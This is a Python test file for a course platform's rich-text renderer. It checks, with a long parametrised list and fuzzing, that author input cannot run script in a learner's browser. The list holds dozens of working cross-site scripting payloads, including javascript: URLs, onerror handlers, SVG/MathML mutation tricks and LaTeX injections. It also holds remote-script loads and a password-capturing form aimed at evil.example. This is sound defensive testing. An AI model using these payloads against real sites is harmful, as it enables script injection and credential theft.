"""Whatever an author writes, nothing of it runs in a learner's browser."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from preau.learn.courses.rich_text import render
from preau.learn.courses.rich_text.render import resolve
from tests.learn.courses.harmless import harm_in

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src) alt=x>",
    '<img src="x" alt="`onerror=alert(1) `">',
    "<img/src=x/onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a> <a href='file:///etc/passwd'>y</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x]\n\n[x]: javascript&colon;alert(1)",
    "[x](JaVaScRiPt&#58;alert(1))",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    '[x](https://a.b "\\" onmouseover=\\"alert(1)")',
    '![" onerror="alert(1)](x.svg)',
    '![x](a.svg "<script>alert(1)</script>")',
    '![x](a.svg "<img src=x onerror=alert(1)>")',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<iframe src=//evil.example></iframe><frameset><frame src=x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><select><option>",
    "<p onclick=alert(1) ONMOUSEOVER=alert(1)>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x><custom-element is=x></custom-element>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE x>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "</div></main></body><script>alert(1)</script>",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</math><script>alert(1)</script>}$",
    r"$\mbox{<img/src=x/onerror=alert(1)>}$ $\hbox{<svg/onload=alert(1)>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x}$ $\class{evil}{x}$",
    r'$\color{"onload=alert(1)}{x}$ $\textcolor{a" href="b}{x}$',
    r"$\operatorname{<script>alert(1)</script>}$ $a<b>c$ $&amp;lt;script&amp;gt;$",
    '$"><script>alert(1)</script>$',
    "$$\n\\text{<iframe src=//evil.example>}\n$$",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "```no-such-language\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "::: hint <script>alert(1)</script>\nx\n:::",
    "::: note <img src=x onerror=alert(1)>\nx\n:::",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^<script>]\n\n[^<script>]: x",
    "Term <script>alert(1)</script>\n: <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<div title="\n\n$a" onclick="alert(1)$\n\n">x</div>',
    '<p title="<table><img src=x onerror=alert(1)></table>">x</p>',
    "<table><td><table><td></table><script>alert(1)</script>",
    "\ue0f0csrf_token\ue0f1",
    "&#xe0f0;csrf_token&#xe0f1;",
    "[x](a.md '&#57584;csrf_token&#57585;')",
    "<p title='&#xe0f0;csrf_token&#xe0f1;'>x</p>",
    r"$\text{&#xe0f0;csrf_token&#xe0f1;}$ $\unicode{xe0f0}$",
    "```\n\ue0f0csrf_token\ue0f1\n```",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_comes_out_harmless(text):
    rendered = render(text)
    assert harm_in(rendered.html) == []
    assert "\ue0f0" not in rendered.plain
    assert (
        harm_in(resolve(rendered.html, lambda name: f"/f/{name}", lambda key: f"/a/{key}/")) == []
    )


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_inside_an_ordinary_text_comes_out_harmless(text):
    assert harm_in(render(f"Before *it*.\n\n{text}\n\nAfter **it**, $x$.").html) == []
    assert harm_in(render(f"> - {text} and more").html) == []


def test_an_address_can_not_leave_its_attribute():
    html = render("![x](<a b.svg>) [y](activity:x)").html
    pointed = resolve(
        html, lambda name: f'/f/{name}" onerror="alert(1)', lambda _key: '/"><script>'
    )
    assert harm_in(pointed) == []


def test_an_address_in_a_text_stays_as_it_is_written():
    html = render('Write `<img src="a.svg">` or src="a.svg".\n\n```html\n<a href="b">\n```').html
    assert resolve(html, lambda _name: "/changed", lambda _key: "/changed") == html


_PIECES = [
    "<", ">", "</", "/>", '"', "'", "=", "&", ";", "&lt;", "&#60;", "&#xe0f0;", "!--", "--", "[",
    "](", ")", "![", "$", "$$", "`", "```", "\n", "\n\n", " ", "|", "---", ":::", "hint", "note",
    "[^1]", "[^1]:", ":", "#", "*", "**", "~~", "\\", "\\text{", "\\frac{", "}", "^", "_", "script",
    "img", "svg", "math", "style", "table", "td", "a", "div", "p", "title", "onerror", "href",
    "src", "javascript:", "data:", "alert(1)", "\t", "    ", "> ", "- ", "1. ", "\0", "\ue0f0",
    "\ue0f1", "\u2028", "é", "\\href{", "\\begin{matrix}", "\\end{matrix}", "\\\\", "\\left",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES) | st.text(max_size=3), max_size=40).map("".join))
def test_no_text_breaks_the_renderer_or_comes_out_harmful(text):
    rendered = render(text)
    assert harm_in(rendered.html) == []
    assert all(1 <= problem.line <= text.count("\n") + 1 for problem in rendered.problems)
    harmful = harm_in(resolve(rendered.html, lambda name: name, lambda key: key))
    assert [found for found in harmful if "href" not in found and "src" not in found] == []
